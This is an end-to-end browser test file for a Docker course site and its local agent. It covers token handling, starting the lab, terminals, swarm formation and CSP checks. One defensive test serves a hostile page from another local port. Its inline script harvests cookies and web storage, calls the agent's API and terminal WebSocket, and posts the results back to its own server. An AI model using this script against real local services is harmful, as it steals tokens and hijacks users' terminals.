import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import WebSocket from "ws";
import { type Agent, labDown, startAgent } from "../support/agent-process.ts";
import { CHROMIUM } from "../support/chromium-setup.ts";
import { repoRoot } from "../support/site-files.ts";

/**
 * The course in a real browser against a real agent and lab: start the lab from an hour page,
 * run a command in a terminal, reload and find the screen restored, form the swarm.
 */
const lab = `e2e${Date.now().toString(36)}`;
const home = mkdtempSync(join(tmpdir(), "drydock-site-e2e-"));
const shots = join(repoRoot, "test-results");
let agent: Agent;
let browser: Browser;
let context: BrowserContext;
let page: Page;
const cspViolations: string[] = [];

const dock = () => page.locator("drydock-dock");
const terminalText = (node: string) =>
  dock().locator(`[role=tabpanel][data-node="${node}"] .xterm-rows`).textContent();

beforeAll(async () => {
  mkdirSync(shots, { recursive: true });
  agent = await startAgent(home, lab);
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      "--no-first-run",
    ],
  });
  context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  page = await context.newPage();
  // The pages run under a CSP with no 'unsafe-inline' script: any inline script it blocks shows here.
  page.on("console", (m) => {
    if (/Content Security Policy|Refused to (execute|load)/i.test(m.text())) cspViolations.push(m.text());
  });
});

afterAll(async () => {
  await browser?.close();
  await agent?.stop();
  labDown(home, lab);
});

describe.sequential(`the course site on lab ${lab}`, () => {
  it("opens with the token and shows the home page", async () => {
    expect(new URL(agent.url).hash).toMatch(/^#token=/);
    await page.goto(agent.url);
    // The page keeps the token in this origin's storage and drops it from the address bar; no cookie.
    await expect.poll(() => new URL(page.url()).hash).toBe("");
    const token = new URL(agent.url).hash.slice("#token=".length);
    expect(await page.evaluate(() => localStorage.getItem("drydock.agent-token"))).toBe(token);
    expect(await context.cookies()).toEqual([]);
    await expect.poll(() => page.locator("h1").first().textContent()).toBe("Drydock");
    await page.screenshot({ path: join(shots, "site-home.png"), fullPage: true });
  });

  it("another server on 127.0.0.1 receives nothing that opens the agent", async () => {
    const token = new URL(agent.url).hash.slice("#token=".length);
    const agentPort = new URL(agent.origin).port;
    // A local server on another port, as a dev server or another user's listener would be. Its page
    // tries what a hostile page can: read storage and cookies, call the agent, open its terminal socket.
    const received: Array<{ url: string; headers: IncomingMessage["headers"]; body: string }> = [];
    const evil: Server = createServer((req, res) => {
      let body = "";
      req.on("data", (d: Buffer) => {
        body += d.toString();
      });
      req.on("end", () => {
        received.push({ url: req.url ?? "", headers: req.headers, body });
        res.writeHead(200, { "Content-Type": "text/html" });
        res.end(
          req.url === "/"
            ? `<!doctype html><title>other</title><script>
(async () => {
  const agent = "http://127.0.0.1:${agentPort}";
  const report = {
    cookie: document.cookie,
    storage: JSON.stringify(Object.assign({}, localStorage)),
    session: JSON.stringify(Object.assign({}, sessionStorage)),
  };
  for (const path of ["/api/terminals", "/api/version"]) {
    try {
      const r = await fetch(agent + path, { credentials: "include" });
      report[path] = r.status + " " + (await r.text());
    } catch (e) { report[path] = "blocked: " + e; }
    try { await fetch(agent + path, { mode: "no-cors", credentials: "include" }); } catch {}
  }
  try {
    const r = await fetch(agent + "/api/tickets", { method: "POST", credentials: "include",
      headers: { "Content-Type": "application/json" }, body: JSON.stringify({ purpose: "terminal-open", node: "laptop" }) });
    report.ticket = r.status + " " + (await r.text());
  } catch (e) { report.ticket = "blocked: " + e; }
  report.ws = await new Promise((resolve) => {
    try {
      const ws = new WebSocket("ws://127.0.0.1:${agentPort}/ws/terminal");
      ws.onopen = () => ws.send(JSON.stringify({ type: "open", node: "laptop", cols: 80, rows: 24 }));
      ws.onmessage = (e) => resolve("message " + e.data);
      ws.onclose = (e) => resolve("closed " + e.code);
      ws.onerror = () => resolve("error");
    } catch (e) { resolve("threw " + e); }
  });
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
})();
</script>`
            : "ok",
        );
      });
    });
    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
    const evilPort = (evil.address() as AddressInfo).port;
    try {
      // The learner's browser, after opening the printed URL, visits the other server (same host, other port).
      const other = await context.newPage();
      await other.goto(`http://127.0.0.1:${evilPort}/`);
      await expect.poll(() => received.some((r) => r.url === "/report"), { timeout: 30_000 }).toBe(true);
      await other.goto(`http://localhost:${evilPort}/`);
      await other.close();

      const report = JSON.parse(received.find((r) => r.url === "/report")?.body ?? "{}") as Record<
        string,
        string
      >;
      expect(report.cookie).toBe("");
      expect(report.storage).not.toContain(token);
      expect(report["/api/terminals"]).not.toMatch(/^200/);
      expect(report.ticket).not.toMatch(/^201/);
      expect(report.ws).not.toMatch(/"type":"ready"/);
      // Nothing the other server received carries the token: not a cookie, a header, a Referer, the body.
      const everything = JSON.stringify(received);
      expect(everything).not.toContain(token);
      for (const r of received) {
        expect(r.headers.cookie).toBeUndefined();
        expect(r.headers.authorization).toBeUndefined();
      }
      // And replayed against the agent, nothing it received opens it.
      const values = new Set<string>();
      for (const r of received) {
        for (const v of Object.values(r.headers)) for (const x of [v].flat()) if (x) values.add(String(x));
        if (r.body) values.add(r.body);
        for (const m of everything.matchAll(/[A-Za-z0-9_-]{20,}/g)) values.add(m[0]);
      }
      for (const value of values) {
        const replays: Record<string, string>[] = [
          { Authorization: `Bearer ${value}` },
          { Cookie: value },
          { Cookie: `drydock_token_${agentPort}=${value}` },
        ];
        for (const headers of replays) {
          const res = await fetch(`${agent.origin}/api/terminals`, { headers }).catch(() => undefined);
          if (res) expect(res.status, `replaying ${value.slice(0, 40)}`).toBe(401);
        }
        const hello = await new Promise<string>((resolve) => {
          const ws = new WebSocket(`${agent.origin.replace("http", "ws")}/ws/terminal`);
          ws.on("open", () =>
            ws.send(
              JSON.stringify({
                type: "open",
                ticket: value.slice(0, 43).padEnd(43, "A"),
                node: "laptop",
                cols: 80,
                rows: 24,
              }),
            ),
          );
          ws.on("message", (d) => resolve(d.toString()));
          ws.on("close", (code) => resolve(`closed ${code}`));
          ws.on("error", () => resolve("error"));
        });
        expect(hello).not.toContain('"ready"');
      }
      // The agent's own page still works with the token it kept.
      await page.goto(`${agent.origin}/lab/`);
      expect(
        await page.evaluate(
          async () =>
            (
              await fetch("/api/version", {
                headers: { Authorization: `Bearer ${localStorage.getItem("drydock.agent-token")}` },
              })
            ).status,
        ),
      ).toBe(200);
    } finally {
      evil.close();
    }
  });

  it("starts the lab from Hours 3-4 and shows progress, then healthy nodes", async () => {
    await page.goto(`${agent.origin}/hours/h03-04/`);
    await page.locator(".dd-dock-launcher").click();
    const start = dock().locator("button[data-action=up]");
    await expect.poll(() => start.isEnabled(), { timeout: 30_000 }).toBe(true);
    await start.click();
    await expect
      .poll(() => dock().locator("[data-progress] li").count(), { timeout: 30_000 })
      .toBeGreaterThan(0);
    await expect
      .poll(() => dock().locator("[data-progress] li").last().textContent(), { timeout: 240_000 })
      .toBe("Done.");
    await expect
      .poll(() => dock().locator("[data-nodes] tbody tr[data-healthy=true]").count(), { timeout: 30_000 })
      .toBe(5);
  });

  it("runs a command in the laptop terminal with one click", async () => {
    const block = page.locator(".dd-run", { hasText: "runs Docker" }).first();
    await block.locator("button[data-run]").click();
    await expect.poll(() => terminalText("laptop"), { timeout: 60_000 }).toMatch(/laptop runs Docker 26\./);
    await page.screenshot({ path: join(shots, "site-hour-terminal.png") });
  });

  it("restores the terminal screen after a reload", async () => {
    await page.reload();
    // The dock is remembered open on the terminal view; the shell is re-attached and replayed.
    await expect.poll(() => dock().isVisible()).toBe(true);
    await expect.poll(() => terminalText("laptop"), { timeout: 60_000 }).toMatch(/laptop runs Docker 26\./);
    await expect.poll(() => dock().locator(".dd-term-state").textContent()).toContain("connected");
  });

  it("forms the swarm from the lab panel and shows three swarm nodes", async () => {
    await dock().locator("[role=tab][data-view=lab]").click();
    const swarm = dock().locator("button[data-action=swarm]");
    await expect.poll(() => swarm.isEnabled(), { timeout: 30_000 }).toBe(true);
    await swarm.click();
    await expect
      .poll(() => dock().locator("[data-progress] li").last().textContent(), { timeout: 120_000 })
      .toBe("Done.");
    const roles = async () =>
      Promise.all(
        ["manager-1", "worker-1", "worker-2"].map((n) =>
          dock().locator(`[data-nodes] tr[data-role="${n}"] td`).nth(2).textContent(),
        ),
      );
    await expect.poll(roles, { timeout: 30_000 }).toEqual(["manager", "worker", "worker"]);
    await expect.poll(() => dock().locator("[data-summary]").textContent()).toMatch(/3 in the swarm/);
    await page.screenshot({ path: join(shots, "site-lab-status.png") });
  });

  it("updates the deliverables panel by itself when the lab changes, with evidence on expand", async () => {
    await page.goto(`${agent.origin}/hours/h15-16/`);
    const panel = page.locator("drydock-deliverables");
    await panel.scrollIntoViewIfNeeded();
    await expect.poll(() => panel.getAttribute("data-live"), { timeout: 30_000 }).toBe("on");
    const swarm = panel.locator('li[data-deliverable="swarm-initialized"]');
    // The swarm formed above was a Docker event: the agent has checked the block already.
    await expect.poll(() => swarm.getAttribute("data-status"), { timeout: 60_000 }).toBe("pass");
    await page.evaluate(() => {
      (window as unknown as { notReloaded: boolean }).notReloaded = true;
    });
    // A worker leaves the swarm, as a learner might by mistake: no click, no reload.
    const left = spawnSync("docker", ["exec", `drydock-${lab}-worker-2`, "docker", "swarm", "leave"], {
      encoding: "utf8",
    });
    expect(left.status, left.stderr).toBe(0);
    await expect.poll(() => swarm.getAttribute("data-status"), { timeout: 90_000 }).toBe("fail");
    expect(await page.evaluate(() => (window as unknown as { notReloaded?: boolean }).notReloaded)).toBe(
      true,
    );
    await swarm.locator("details.dd-result summary").click();
    await expect
      .poll(() => swarm.locator("details.dd-result summary").textContent())
      .toMatch(/^fails: The swarm is not as wanted: worker-2/);
    await expect.poll(() => swarm.locator("details.dd-result ul").textContent()).toMatch(/worker-2/);
    expect(await swarm.locator(".dd-hint").textContent()).not.toBe("");
    await page.screenshot({ path: join(shots, "site-deliverables-live.png"), fullPage: true });
  });

  it("no page's script was blocked by the Content-Security-Policy", () => {
    expect(cspViolations).toEqual([]);
  });
});
